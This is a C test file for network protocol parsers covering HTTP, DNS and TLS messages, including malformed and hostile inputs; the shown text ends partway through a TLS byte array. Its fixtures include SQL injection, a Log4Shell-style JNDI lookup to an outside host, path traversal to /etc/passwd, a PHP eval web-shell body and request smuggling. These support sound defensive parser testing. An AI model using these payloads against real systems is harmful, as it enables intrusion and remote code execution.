/* net protocol parsers: crafted and real messages for HTTP, DNS, TLS, SSH, SMB, RDP, FTP,
 * POP3, IMAP and Telnet, each also cut at every byte offset (copied to a buffer of exactly
 * that size, so the sanitizer sees any read past the end) and bent into hostile shapes; and
 * the DNS name heuristics on benign names that must not score and tunnel/DGA names that must. */
#include "kw_test.h"
#include "net/net_proto.h"

#include <stdint.h>
#include <stdlib.h>

/* ---- helpers ---- */

#define U8(s) ((const uint8_t *)(s))

static bool slice_is(net_slice s, const char *want)
{
    return s.p && s.n == strlen(want) && memcmp(s.p, want, s.n) == 0;
}

#define CHECK_SLICE(s, want)                                                                      \
    do {                                                                                          \
        net_slice kwt_s = (s);                                                                    \
        if (!slice_is(kwt_s, want)) {                                                             \
            fprintf(stderr, "  %s:%d: %s == \"%.*s\", expected \"%s\"\n", __FILE__, __LINE__, #s, \
                    (int)kwt_s.n, kwt_s.p ? (const char *)kwt_s.p : "", want);                    \
            kwt_failed_checks++;                                                                  \
        }                                                                                         \
    } while (0)

/* A byte builder for crafted messages. */
typedef struct bb {
    uint8_t b[8192];
    size_t n;
} bb;

static void put8(bb *b, unsigned v)
{
    b->b[b->n++] = (uint8_t)v;
}

static void put16(bb *b, unsigned v)
{
    put8(b, v >> 8);
    put8(b, v);
}

static void put16le(bb *b, unsigned v)
{
    put8(b, v);
    put8(b, v >> 8);
}

static void putn(bb *b, const void *p, size_t n)
{
    memcpy(b->b + b->n, p, n);
    b->n += n;
}

static void puts_(bb *b, const char *s)
{
    putn(b, s, strlen(s));
}

/* Writes the length of everything after a k-byte placeholder at mark, big-endian. */
static void fill_len(bb *b, size_t mark, size_t k)
{
    size_t len = b->n - mark - k;
    for (size_t i = 0; i < k; i++)
        b->b[mark + i] = (uint8_t)(len >> (8 * (k - 1 - i)));
}

static size_t hold(bb *b, size_t k)
{
    size_t m = b->n;
    for (size_t i = 0; i < k; i++)
        put8(b, 0);
    return m;
}

/* Calls f on every proper prefix of msg (each in a heap buffer of exactly that size); every
 * one must say PARTIAL. Returns how many did not. */
typedef net_proto_rc (*parse_fn)(const uint8_t *p, size_t n);

static int prefixes_partial(parse_fn f, const uint8_t *msg, size_t n)
{
    int bad = 0;
    for (size_t k = 0; k < n; k++) {
        uint8_t *c = malloc(k ? k : 1);
        memcpy(c, msg, k);
        net_proto_rc rc = f(c, k);
        if (rc != NET_PROTO_PARTIAL) {
            if (bad < 3)
                fprintf(stderr, "    prefix %zu of %zu: rc %d\n", k, n, rc);
            bad++;
        }
        free(c);
    }
    return bad;
}

/* ---- HTTP ---- */

static uint8_t scratch[8192];
static net_http_req req;

static net_proto_rc http_req(const uint8_t *p, size_t n)
{
    return net_http_req_parse(p, n, scratch, sizeof scratch, &req);
}

static net_proto_rc http_req_s(const char *s)
{
    return http_req(U8(s), strlen(s));
}

static void test_http_get(void)
{
    const char *m = "GET /shop/item.php?id=1%2527%20or%201=1&q=a+b%00c HTTP/1.1\r\n"
                    "Host: shop.example.com\r\n"
                    "User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)\r\n"
                    "Cookie: rememberMe=deleteMe; sid=abc\r\n"
                    "X-Api-Version: ${jndi:ldap://203.0.113.5:1389/a}\r\n"
                    "\r\n";
    CHECK(http_req_s(m) == NET_PROTO_OK);
    CHECK_SLICE(req.method, "GET");
    CHECK_SLICE(req.target, "/shop/item.php?id=1%2527%20or%201=1&q=a+b%00c");
    CHECK_SLICE(req.path, "/shop/item.php");
    CHECK_SLICE(req.query, "id=1%2527%20or%201=1&q=a+b%00c");
    CHECK_SLICE(req.version, "HTTP/1.1");
    CHECK(req.major == 1 && req.minor == 1);
    CHECK_SLICE(req.dpath, "/shop/item.php");
    CHECK(req.dquery.n == strlen("id=1' or 1=1&q=a b") + 2);
    CHECK(req.dquery.p && memcmp(req.dquery.p, "id=1' or 1=1&q=a b\0c", req.dquery.n) == 0);
    CHECK(req.dtarget.n == req.dpath.n + 1 + req.dquery.n);
    CHECK(req.flags & NET_HTTP_F_URI_NUL);
    CHECK(req.flags & NET_HTTP_F_URI_MULTI_ENC);
    CHECK(req.flags & NET_HTTP_F_HEADERS_DONE);
    CHECK(req.flags & NET_HTTP_F_BODY_DONE);
    CHECK_SLICE(req.host, "shop.example.com");
    CHECK_SLICE(req.user_agent, "sqlmap/1.7.2#stable (https://sqlmap.org)");
    CHECK_SLICE(req.cookie, "rememberMe=deleteMe; sid=abc");
    CHECK_INT(req.hdrs.n, 4);
    CHECK_SLICE(req.hdrs.h[3].name, "X-Api-Version");
    CHECK_SLICE(req.hdrs.h[3].value, "${jndi:ldap://203.0.113.5:1389/a}");
    CHECK_INT(req.used, strlen(m));
    CHECK_INT(req.body.n, 0);
    CHECK_INT(prefixes_partial(http_req, U8(m), strlen(m)), 0);
    /* '+' is a space only in the query; the path keeps it; a lone '%' is kept and flagged */
    CHECK(http_req_s("GET /a+b/%zz%4 HTTP/1.0\r\n\r\n") == NET_PROTO_OK);
    CHECK_SLICE(req.dpath, "/a+b/%zz%4");
    CHECK(req.flags & NET_HTTP_F_URI_BAD_PCT);
    CHECK(!(req.flags & (NET_HTTP_F_URI_NUL | NET_HTTP_F_URI_MULTI_ENC)));
    CHECK_SLICE(req.dtarget, "/a+b/%zz%4");
    /* path traversal, encoded twice and three times */
    CHECK(http_req_s("GET /..%252f..%25252fetc/passwd HTTP/1.1\r\n\r\n") == NET_PROTO_OK);
    CHECK_SLICE(req.dpath, "/../../etc/passwd");
}

static void test_http_forms(void)
{
    /* absolute-form (a proxy request) and the authority-form of CONNECT */
    CHECK(http_req_s("GET http://example.com:8080/a/b?x=1 HTTP/1.1\r\nHost: example.com\r\n\r\n") == NET_PROTO_OK);
    CHECK_SLICE(req.path, "/a/b");
    CHECK_SLICE(req.query, "x=1");
    CHECK(http_req_s("CONNECT example.com:443 HTTP/1.1\r\n\r\n") == NET_PROTO_OK);
    CHECK_SLICE(req.target, "example.com:443");
    CHECK(http_req_s("OPTIONS * HTTP/1.1\n\n") == NET_PROTO_OK);
    CHECK(req.flags & NET_HTTP_F_BARE_LF);
    CHECK_SLICE(req.target, "*");
    /* obs-fold: the value is unfolded into scratch */
    CHECK(http_req_s("GET / HTTP/1.1\r\nX-Folded: one\r\n  two\r\n\tthree\r\nHost: h\r\n\r\n") == NET_PROTO_OK);
    CHECK(req.flags & NET_HTTP_F_FOLDED);
    CHECK_SLICE(req.hdrs.h[0].value, "one two three");
    CHECK_SLICE(req.host, "h");
    /* Basic credentials: the example of RFC 7617 section 2 */
    CHECK(http_req_s("GET /admin HTTP/1.1\r\nAuthorization: Basic QWxhZGRpbjpvcGVuIHNlc2FtZQ==\r\n\r\n") == NET_PROTO_OK);
    CHECK_SLICE(req.basic_user, "Aladdin");
    CHECK_SLICE(req.basic_pass, "open sesame");
    CHECK(http_req_s("GET / HTTP/1.1\r\nAuthorization: Basic !!!!\r\n\r\n") == NET_PROTO_OK);
    CHECK(req.flags & NET_HTTP_F_BASIC_BAD);
    CHECK(req.basic_user.n == 0);
    CHECK(http_req_s("GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n") == NET_PROTO_OK);
    CHECK(req.flags & NET_HTTP_F_DUP_HOST);
}

static void test_http_body_pipeline(void)
{
    const char *m = "POST /login HTTP/1.1\r\nHost: h\r\nContent-Type: application/x-www-form-urlencoded\r\n"
                    "Content-Length: 19\r\n\r\nuser=admin&pass=123"
                    "GET /next HTTP/1.1\r\nHost: h\r\n\r\n";
    size_t n = strlen(m);
    CHECK(http_req_s(m) == NET_PROTO_OK);
    CHECK_SLICE(req.method, "POST");
    CHECK_SLICE(req.content_type, "application/x-www-form-urlencoded");
    CHECK(req.has_content_length && req.content_length == 19);
    CHECK_SLICE(req.body, "user=admin&pass=123");
    size_t first = req.used;
    CHECK(first < n);
    CHECK(http_req(U8(m) + first, n - first) == NET_PROTO_OK);
    CHECK_SLICE(req.target, "/next");
    CHECK_INT(first + req.used, n);
    /* a body larger than the prefix: PARTIAL with the start of the body */
    CHECK(http_req_s("POST /up HTTP/1.1\r\nContent-Length: 99999999999999\r\n\r\n<?php eval($_POST[x]);") ==
          NET_PROTO_PARTIAL);
    CHECK_SLICE(req.body, "<?php eval($_POST[x]);");
    CHECK(req.content_length == 99999999999999ULL);
    CHECK(!(req.flags & NET_HTTP_F_BODY_DONE));
    /* Content-Length that lies */
    CHECK(http_req_s("POST / HTTP/1.1\r\nContent-Length: 1234567890123456789\r\n\r\n") == NET_PROTO_MALFORMED);
    CHECK(req.why == NET_WHY_HTTP_CONTENT_LENGTH);
    CHECK(http_req_s("POST / HTTP/1.1\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nabcdef") == NET_PROTO_MALFORMED);
    CHECK(http_req_s("POST / HTTP/1.1\r\nContent-Length: -1\r\n\r\n") == NET_PROTO_MALFORMED);
    CHECK_STR(net_proto_why_str(req.why), "http_content_length");
}

static void test_http_chunked(void)
{
    const char *m = "POST /api HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n"
                    "4\r\nWiki\r\n5;ext=1\r\npedia\r\nE\r\n in\r\n\r\nchunks.\r\n0\r\nX-Trailer: t\r\n\r\n";
    size_t n = strlen(m);
    CHECK(http_req_s(m) == NET_PROTO_OK);
    CHECK(req.flags & NET_HTTP_F_CHUNKED);
    CHECK_SLICE(req.transfer_encoding, "chunked");
    CHECK_SLICE(req.body, "Wikipedia in\r\n\r\nchunks.");
    CHECK_INT(req.used, n);
    CHECK_INT(prefixes_partial(http_req, U8(m), n), 0);
    /* a prefix cut inside the second chunk still yields the first and part of the second */
    const char *cut = strstr(m, "pedia") + 2;
    CHECK(http_req(U8(m), (size_t)(cut - m)) == NET_PROTO_PARTIAL);
    CHECK_SLICE(req.body, "Wikipe");
    /* chunked lies */
    const char *hdr = "POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n";
    const char *lies[] = {"zz\r\nab\r\n0\r\n\r\n", "ffffffffffffffffff\r\n", "3\r\nabcX\r\n0\r\n\r\n", "\r\n"};
    for (size_t i = 0; i < sizeof lies / sizeof lies[0]; i++) {
        char buf[256];
        snprintf(buf, sizeof buf, "%s%s", hdr, lies[i]);
        CHECK(http_req_s(buf) == NET_PROTO_MALFORMED);
        CHECK(req.why == NET_WHY_HTTP_CHUNK);
    }
    /* both framings: flagged (request smuggling) */
    CHECK(http_req_s("POST / HTTP/1.1\r\nContent-Length: 4\r\nTransfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n") ==
          NET_PROTO_OK);
    CHECK(req.flags & NET_HTTP_F_CL_AND_TE);
    CHECK(req.flags & NET_HTTP_F_CHUNKED);
}

static void test_http_hostile(void)
{
    /* not HTTP */
    CHECK(http_req(U8("\x16\x03\x01\x02\x00"), 5) == NET_PROTO_NOT_MINE);
    CHECK(http_req_s("SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.1\r\n") == NET_PROTO_NOT_MINE);
    CHECK(http_req_s("get / HTTP/1.1\r\n\r\n") == NET_PROTO_NOT_MINE);
    CHECK(http_req_s("AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA / HTTP/1.1\r\n") == NET_PROTO_NOT_MINE);
    /* malformed, with the reason */
    CHECK(http_req_s("GET /\r\n\r\n") == NET_PROTO_MALFORMED);
    CHECK(req.why == NET_WHY_HTTP_REQUEST_LINE);
    CHECK(http_req_s("GET / HTTX/1.1\r\n\r\n") == NET_PROTO_MALFORMED);
    CHECK(req.why == NET_WHY_HTTP_VERSION);
    CHECK(http_req_s("GET / HTTP/1.1\r\nHost : evil\r\n\r\n") == NET_PROTO_MALFORMED);
    CHECK(req.why == NET_WHY_HTTP_HEADER_SYNTAX);
    CHECK(http_req_s("GET / HTTP/1.1\r\nNoColon\r\n\r\n") == NET_PROTO_MALFORMED);
    CHECK(http_req_s("GET / HTTP/1.1\r\n folded-first\r\n\r\n") == NET_PROTO_MALFORMED);
    /* a header flood keeps the first 64 */
    static char flood[16384];
    size_t o = (size_t)snprintf(flood, sizeof flood, "GET / HTTP/1.1\r\nHost: victim\r\n");
    for (int i = 0; i < 100; i++)
        o += (size_t)snprintf(flood + o, sizeof flood - o, "X-%d: %d\r\n", i, i);
    snprintf(flood + o, sizeof flood - o, "\r\n");
    CHECK(http_req_s(flood) == NET_PROTO_MALFORMED);
    CHECK(req.why == NET_WHY_HTTP_TOO_MANY_HEADERS);
    CHECK_INT(req.hdrs.n, NET_HTTP_MAX_HEADERS);
    CHECK_SLICE(req.host, "victim");
    /* a line with no end: PARTIAL until the cap, then MALFORMED */
    static uint8_t longline[NET_HTTP_MAX_LINE + 64];
    memset(longline, 'A', sizeof longline);
    memcpy(longline, "GET /", 5);
    CHECK(http_req(longline, 100) == NET_PROTO_PARTIAL);
    CHECK_SLICE(req.method, "GET");
    CHECK(http_req(longline, sizeof longline) == NET_PROTO_MALFORMED);
    CHECK(req.why == NET_WHY_HTTP_LINE_TOO_LONG);
    /* headers cut by the prefix: the request line and the headers so far */
    const char *m = "GET /x?a=1 HTTP/1.1\r\nHost: h.example\r\nUser-Agent: Nuclei - Open-source project\r\nAcc";
    CHECK(http_req_s(m) == NET_PROTO_PARTIAL);
    CHECK_SLICE(req.path, "/x");
    CHECK_SLICE(req.dquery, "a=1");
    CHECK_SLICE(req.host, "h.example");
    CHECK_SLICE(req.user_agent, "Nuclei - Open-source project");
    /* a scratch of 4 bytes: decoded fields cut short, flagged, nothing written past it */
    uint8_t tiny[4 + 4];
    memset(tiny, 0xee, sizeof tiny);
    CHECK(net_http_req_parse(U8("GET /abcdefgh?x=1 HTTP/1.1\r\n\r\n"), 31, tiny, 4, &req) == NET_PROTO_OK);
    CHECK(req.flags & NET_HTTP_F_SCRATCH_FULL);
    CHECK(tiny[4] == 0xee && tiny[7] == 0xee);
    CHECK(net_http_req_parse(U8("GET /a HTTP/1.1\r\n\r\n"), 19, NULL, 0, &req) == NET_PROTO_OK);
}

static net_http_resp resp;

static net_proto_rc http_resp(const uint8_t *p, size_t n)
{
    return net_http_resp_parse(p, n, &resp);
}

static void test_http_response(void)
{
    const char *m = "HTTP/1.1 200 OK\r\nServer: nginx/1.18.0 (Ubuntu)\r\nContent-Type: text/html\r\n"
                    "Content-Length: 5\r\n\r\nhello";
    CHECK(http_resp(U8(m), strlen(m)) == NET_PROTO_OK);
    CHECK_INT(resp.status, 200);
    CHECK_SLICE(resp.reason, "OK");
    CHECK_SLICE(resp.server, "nginx/1.18.0 (Ubuntu)");
    CHECK_SLICE(resp.content_type, "text/html");
    CHECK(resp.has_content_length && resp.content_length == 5);
    CHECK_INT(resp.header_len, strlen(m) - 5);
    CHECK_INT(prefixes_partial(http_resp, U8(m), strlen(m) - 5), 0);
    CHECK(http_resp(U8("HTTP/1.0 302\r\nLocation: /login\r\n\r\n"), 35) == NET_PROTO_OK);
    CHECK_INT(resp.status, 302);
    CHECK_SLICE(resp.location, "/login");
    CHECK(http_resp(U8("GET / HTTP/1.1\r\n"), 16) == NET_PROTO_NOT_MINE);
    CHECK(http_resp(U8("HTTP/1.1 2x0 OK\r\n\r\n"), 19) == NET_PROTO_MALFORMED);
    CHECK(resp.why == NET_WHY_HTTP_STATUS_LINE);
    CHECK(http_resp(U8("HTTP/1.1 200OK\r\n\r\n"), 18) == NET_PROTO_MALFORMED);
    CHECK(http_resp(U8("HTTP/1.1 099 X\r\n\r\n"), 18) == NET_PROTO_MALFORMED);
}

/* ---- DNS ---- */

static net_dns_msg dns;

static net_proto_rc dns_udp(const uint8_t *p, size_t n)
{
    return net_dns_parse(p, n, &dns);
}

static void put_name(bb *b, const char *dotted)
{
    while (*dotted) {
        const char *dot = strchr(dotted, '.');
        size_t len = dot ? (size_t)(dot - dotted) : strlen(dotted);
        put8(b, (unsigned)len);
        putn(b, dotted, len);
        dotted += len + (dot ? 1 : 0);
    }
    put8(b, 0);
}

static void dns_hdr(bb *b, unsigned flags, unsigned qd, unsigned an)
{
    b->n = 0;
    put16(b, 0x1234);
    put16(b, flags);
    put16(b, qd);
    put16(b, an);
    put16(b, 0);
    put16(b, 0);
}

static void rr_hdr(bb *b, unsigned type, unsigned ttl)
{
    put16(b, type);
    put16(b, 1);
    put16(b, ttl >> 16);
    put16(b, ttl & 0xffff);
}

/* A response for www.baidu.com: CNAME www.a.shifen.com (compressed), two A records. */
static void dns_baidu(bb *b)
{
    dns_hdr(b, 0x8180, 1, 3);
    put_name(b, "www.BAIDU.com");
    put16(b, NET_DNS_A);
    put16(b, 1);
    put16(b, 0xc00c);                 /* www.baidu.com */
    rr_hdr(b, NET_DNS_CNAME, 1200);
    size_t m = hold(b, 2);
    size_t cname = b->n;
    puts_(b, "\x03www\x01" "a\x06shifen");
    put16(b, 0xc016);                 /* "com" of the question, at offset 22 */
    fill_len(b, m, 2);
    for (int i = 0; i < 2; i++) {
        put16(b, (unsigned)(0xc000 | cname));
        rr_hdr(b, NET_DNS_A, 60);
        put16(b, 4);
        put8(b, 110), put8(b, 242), put8(b, 68), put8(b, (unsigned)(3 + i));
    }
}

static void test_dns_response(void)
{
    bb b;
    dns_baidu(&b);
    CHECK(dns_udp(b.b, b.n) == NET_PROTO_OK);
    CHECK(dns.qr && dns.rcode == 0 && dns.id == 0x1234);
    CHECK_INT(dns.nq, 1);
    CHECK_STR(dns.q[0].name, "www.baidu.com");
    CHECK_INT(dns.q[0].type, NET_DNS_A);
    CHECK_INT(dns.nan, 3);
    CHECK_STR(dns.an[0].name, "www.baidu.com");
    CHECK_INT(dns.an[0].type, NET_DNS_CNAME);
    CHECK_INT(dns.an[0].ttl, 1200);
    CHECK_STR(dns.an[0].data, "www.a.shifen.com");
    CHECK_STR(dns.an[1].name, "www.a.shifen.com");
    CHECK(dns.an[2].type == NET_DNS_A && dns.an[2].addr[0] == 110 && dns.an[2].addr[3] == 4);
    CHECK(!dns.odd_chars);
    CHECK_INT(prefixes_partial(dns_udp, b.b, b.n), 0);
}

static void test_dns_rdata(void)
{
    bb b;
    dns_hdr(&b, 0x8180, 1, 4);
    put_name(&b, "_dmarc.example.com");
    put16(&b, NET_DNS_TXT);
    put16(&b, 1);
    put16(&b, 0xc00c);
    rr_hdr(&b, NET_DNS_TXT, 300);
    size_t m = hold(&b, 2);
    puts_(&b, "\x09v=DMARC1;\x08 p=none;");
    fill_len(&b, m, 2);
    put16(&b, 0xc013);                 /* example.com */
    rr_hdr(&b, NET_DNS_MX, 300);
    m = hold(&b, 2);
    put16(&b, 10);
    puts_(&b, "\x04mail");
    put16(&b, 0xc013);
    fill_len(&b, m, 2);
    put16(&b, 0xc013);
    rr_hdr(&b, NET_DNS_AAAA, 300);
    put16(&b, 16);
    static const uint8_t v6[16] = {0x20, 0x01, 0x0d, 0xb8, [15] = 1};
    putn(&b, v6, 16);
    put_name(&b, "1.2.0.192.in-addr.arpa");
    rr_hdr(&b, NET_DNS_PTR, 300);
    m = hold(&b, 2);
    put_name(&b, "host.example.net");
    fill_len(&b, m, 2);
    CHECK(dns_udp(b.b, b.n) == NET_PROTO_OK);
    CHECK_INT(dns.nan, 4);
    CHECK_STR(dns.an[0].data, "v=DMARC1; p=none;");
    CHECK_INT(dns.an[0].txt_len, 17);
    CHECK_STR(dns.an[1].data, "mail.example.com");
    CHECK_INT(dns.an[1].mx_pref, 10);
    CHECK(dns.an[2].addr[0] == 0x20 && dns.an[2].addr[15] == 1);
    CHECK_STR(dns.an[3].name, "1.2.0.192.in-addr.arpa");
    CHECK_STR(dns.an[3].data, "host.example.net");
    CHECK_INT(prefixes_partial(dns_udp, b.b, b.n), 0);
    /* A with the wrong length; TXT whose string runs past rdata */
    dns_hdr(&b, 0x8180, 0, 1);
    put_name(&b, "a.example");
    rr_hdr(&b, NET_DNS_A, 1);
    put16(&b, 5);
    putn(&b, "\1\2\3\4\5", 5);
    CHECK(dns_udp(b.b, b.n) == NET_PROTO_MALFORMED);
    CHECK(dns.why == NET_WHY_DNS_RDATA);
    dns_hdr(&b, 0x8180, 0, 1);
    put_name(&b, "a.example");
    rr_hdr(&b, NET_DNS_TXT, 1);
    put16(&b, 3);
    putn(&b, "\x05" "ab", 3);
    CHECK(dns_udp(b.b, b.n) == NET_PROTO_MALFORMED);
    /* a 300-byte TXT answer is cut at 255 and says its length */
    dns_hdr(&b, 0x8180, 0, 1);
    put_name(&b, "t.example");
    rr_hdr(&b, NET_DNS_TXT, 1);
    put16(&b, 302);
    for (int s = 0; s < 2; s++) {
        put8(&b, 150);
        for (int i = 0; i < 150; i++)
            put8(&b, 'a' + (unsigned)(i % 26));
    }
    CHECK(dns_udp(b.b, b.n) == NET_PROTO_OK);
    CHECK_INT(dns.an[0].txt_len, 300);
    CHECK_INT(strlen(dns.an[0].data), 255);
}

static void test_dns_hostile(void)
{
    bb b;
    /* a pointer to itself, a forward pointer, a chain of 40 backward pointers */
    dns_hdr(&b, 0x0100, 1, 0);
    put16(&b, 0xc00c);
    put16(&b, 1), put16(&b, 1);
    CHECK(dns_udp(b.b, b.n) == NET_PROTO_MALFORMED);
    CHECK(dns.why == NET_WHY_DNS_POINTER);
    CHECK_STR(net_proto_why_str(dns.why), "dns_pointer");
    dns_hdr(&b, 0x0100, 1, 0);
    put16(&b, 0xc010);
    put16(&b, 1), put16(&b, 1);
    put8(&b, 0);
    CHECK(dns_udp(b.b, b.n) == NET_PROTO_MALFORMED);
    dns_hdr(&b, 0x8100, 1, 2);
    put_name(&b, "x");
    put16(&b, 1), put16(&b, 1);
    put16(&b, 0xc00c);
    rr_hdr(&b, 10, 1);               /* a NULL record holding the chain, not read as names */
    size_t m = hold(&b, 2);
    size_t prev = 12;
    for (int i = 0; i < 40; i++) {
        size_t here = b.n;
        put16(&b, (unsigned)(0xc000 | prev));
        prev = here;
    }
    fill_len(&b, m, 2);
    put16(&b, (unsigned)(0xc000 | prev));
    rr_hdr(&b, NET_DNS_A, 1);
    put16(&b, 4);
    putn(&b, "\1\2\3\4", 4);
    CHECK(dns_udp(b.b, b.n) == NET_PROTO_MALFORMED);
    CHECK(dns.why == NET_WHY_DNS_POINTER);
    CHECK_INT(dns.nan, 2);
    /* two labels pointing at each other: the second points forward */
    dns_hdr(&b, 0x0100, 1, 0);
    put8(&b, 1), put8(&b, 'a');
    put16(&b, 0xc00f);              /* -> offset 15, after itself */
    put16(&b, 0xc00c);
    CHECK(dns_udp(b.b, b.n) == NET_PROTO_MALFORMED);
    /* label types 0x40 and 0x80; a name over 255 bytes */
    dns_hdr(&b, 0x0100, 1, 0);
    put8(&b, 0x41);
    CHECK(dns_udp(b.b, b.n) == NET_PROTO_MALFORMED);
    CHECK(dns.why == NET_WHY_DNS_LABEL_TYPE);
    dns_hdr(&b, 0x0100, 1, 0);
    for (int i = 0; i < 5; i++) {
        put8(&b, 60);
        for (int j = 0; j < 60; j++)
            put8(&b, 'a');
    }
    put8(&b, 0);
    put16(&b, 1), put16(&b, 1);
    CHECK(dns_udp(b.b, b.n) == NET_PROTO_MALFORMED);
    CHECK(dns.why == NET_WHY_DNS_NAME_TOO_LONG);
    /* odd bytes in a label become '?' */
    dns_hdr(&b, 0x0100, 1, 0);
    putn(&b, "\x03" "a.\x01\x03" "com\0", 9);
    put16(&b, 1), put16(&b, 1);
    CHECK(dns_udp(b.b, b.n) == NET_PROTO_OK);
    CHECK_STR(dns.q[0].name, "a??.com");
    CHECK(dns.odd_chars);
    /* not DNS: opcode 3, a query without questions */
    dns_hdr(&b, 0x1800, 1, 0);
    CHECK(dns_udp(b.b, b.n) == NET_PROTO_NOT_MINE);
    dns_hdr(&b, 0x0100, 0, 0);
    CHECK(dns_udp(b.b, b.n) == NET_PROTO_NOT_MINE);
    /* 20 answers and 6 questions: the first 16 and 4 kept */
    dns_hdr(&b, 0x8180, 6, 20);
    for (int i = 0; i < 6; i++) {
        put_name(&b, "q.example");
        put16(&b, 1), put16(&b, 1);
    }
    for (int i = 0; i < 20; i++) {
        put16(&b, 0xc00c);
        rr_hdr(&b, NET_DNS_A, 1);
        put16(&b, 4);
        put8(&b, 10), put8(&b, 0), put8(&b, 0), put8(&b, (unsigned)i);
    }
    CHECK(dns_udp(b.b, b.n) == NET_PROTO_OK);
    CHECK_INT(dns.nq, NET_DNS_MAX_Q);
    CHECK_INT(dns.nan, NET_DNS_MAX_AN);
    CHECK_INT(dns.an[15].addr[3], 15);
}

static void test_dns_tcp(void)
{
    bb q, b;
    dns_hdr(&q, 0x0100, 1, 0);
    put_name(&q, "version.bind");
    put16(&q, NET_DNS_TXT), put16(&q, 3);
    b.n = 0;
    for (int i = 0; i < 2; i++) {
        put16(&b, (unsigned)q.n);
        putn(&b, q.b, q.n);
    }
    size_t used = 0;
    CHECK(net_dns_parse_tcp(b.b, b.n, &dns, &used) == NET_PROTO_OK);
    CHECK_INT(used, q.n + 2);
    CHECK_STR(dns.q[0].name, "version.bind");
    CHECK_INT(dns.q[0].qclass, 3);
    CHECK(net_dns_parse_tcp(b.b + used, b.n - used, &dns, &used) == NET_PROTO_OK);
    for (size_t k = 0; k < q.n + 2; k++) {
        uint8_t *c = malloc(k ? k : 1);
        memcpy(c, b.b, k);
        CHECK(net_dns_parse_tcp(c, k, &dns, &used) == NET_PROTO_PARTIAL);
        free(c);
    }
    /* a length under the header; counts that run past the message's own length */
    CHECK(net_dns_parse_tcp(U8("\x00\x05xxxxx"), 7, &dns, &used) == NET_PROTO_MALFORMED);
    CHECK(dns.why == NET_WHY_DNS_TCP_LENGTH);
    b.n = 0;
    put16(&b, (unsigned)q.n);
    putn(&b, q.b, q.n);
    b.b[2 + 7] = 5;                  /* ancount 5, no answers follow */
    putn(&b, "trailing bytes of the next message", 34);
    CHECK(net_dns_parse_tcp(b.b, b.n, &dns, &used) == NET_PROTO_MALFORMED);
    CHECK(dns.why == NET_WHY_DNS_TRUNCATED);
}

/* ---- TLS ---- */

/* A real ClientHello: Firefox to contile.services.mozilla.com, the TLS payload of the one
 * frame in pcap/tls12.pcap of FoxIO-LLC/ja4 (github.com/FoxIO-LLC/ja4); its JA4 values are
 * that repository's python/test/testdata/tls12.pcap.json. */
static const uint8_t firefox_hello[] = {
    0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03, 0xec, 0xb2, 0x69, 0x1a, 0xdd,
    0xb2, 0xbf, 0x6c, 0x59, 0x9c, 0x7a, 0xaa, 0xe2, 0x3d, 0xe5, 0xf4, 0x25, 0x61, 0xcc, 0x04, 0xeb,
    0x41, 0x02, 0x9a, 0xcc, 0x6f, 0xc0, 0x50, 0xa1, 0x6a, 0xc1, 0xd2, 0x20, 0x46, 0xf8, 0x61, 0x7b,
    0x58, 0x0a, 0xc9, 0x35, 0x8e, 0x2a, 0xa4, 0x4e, 0x30, 0x6d, 0x52, 0x46, 0x6b, 0xcc, 0x98, 0x9c,
    0x87, 0xc8, 0xca, 0x64, 0x30, 0x9f, 0x5f, 0xaf, 0x50, 0xba, 0x7b, 0x4d, 0x00, 0x22, 0x13, 0x01,
    0x13, 0x03, 0x13, 0x02, 0xc0, 0x2b, 0xc0, 0x2f, 0xcc, 0xa9, 0xcc, 0xa8, 0xc0, 0x2c, 0xc0, 0x30,
    0xc0, 0x0a, 0xc0, 0x09, 0xc0, 0x13, 0xc0, 0x14, 0x00, 0x9c, 0x00, 0x9d, 0x00, 0x2f, 0x00, 0x35,
    0x01, 0x00, 0x01, 0x91, 0x00, 0x00, 0x00, 0x21, 0x00, 0x1f, 0x00, 0x00, 0x1c, 0x63, 0x6f, 0x6e,
    0x74, 0x69, 0x6c, 0x65, 0x2e, 0x73, 0x65, 0x72, 0x76, 0x69, 0x63, 0x65, 0x73, 0x2e, 0x6d, 0x6f,
    0x7a, 0x69, 0x6c, 0x6c, 0x61, 0x2e, 0x63, 0x6f, 0x6d, 0x00, 0x17, 0x00, 0x00, 0xff, 0x01, 0x00,
    0x01, 0x00, 0x00, 0x0a, 0x00, 0x0e, 0x00, 0x0c, 0x00, 0x1d, 0x00, 0x17, 0x00, 0x18, 0x00, 0x19,
    0x01, 0x00, 0x01, 0x01, 0x00, 0x0b, 0x00, 0x02, 0x01, 0x00, 0x00, 0x23, 0x00, 0x00, 0x00, 0x10,
    0x00, 0x0e, 0x00, 0x0c, 0x02, 0x68, 0x32, 0x08, 0x68, 0x74, 0x74, 0x70, 0x2f, 0x31, 0x2e, 0x31,
    0x00, 0x05, 0x00, 0x05, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x22, 0x00, 0x0a, 0x00, 0x08, 0x04,
    0x03, 0x05, 0x03, 0x06, 0x03, 0x02, 0x03, 0x00, 0x33, 0x00, 0x6b, 0x00, 0x69, 0x00, 0x1d, 0x00,
    0x20, 0x89, 0x09, 0x85, 0x8f, 0xbe, 0xb6, 0xed, 0x2f, 0x12, 0x48, 0xba, 0x5b, 0x9e, 0x29, 0x78,
    0xbe, 0xad, 0x0e, 0x84, 0x01, 0x10, 0x19, 0x2c, 0x61, 0xda, 0xed, 0x00, 0x96, 0x79, 0x8b, 0x18,
    0x44, 0x00, 0x17, 0x00, 0x41, 0x04, 0x4d, 0x18, 0x3d, 0x91, 0xf5, 0xee, 0xd3, 0x57, 0x91, 0xfa,
    0x98, 0x24, 0x64, 0xe3, 0xb0, 0x21, 0x4a, 0xaa, 0x5f, 0x5d, 0x1b, 0x78, 0x61, 0x6d, 0x9b, 0x9f,
    0xbe, 0xbc, 0x22, 0xd1, 0x1f, 0x53, 0x5b, 0x2f, 0x94, 0xc6, 0x86, 0x14, 0x31, 0x36, 0xaa, 0x79,
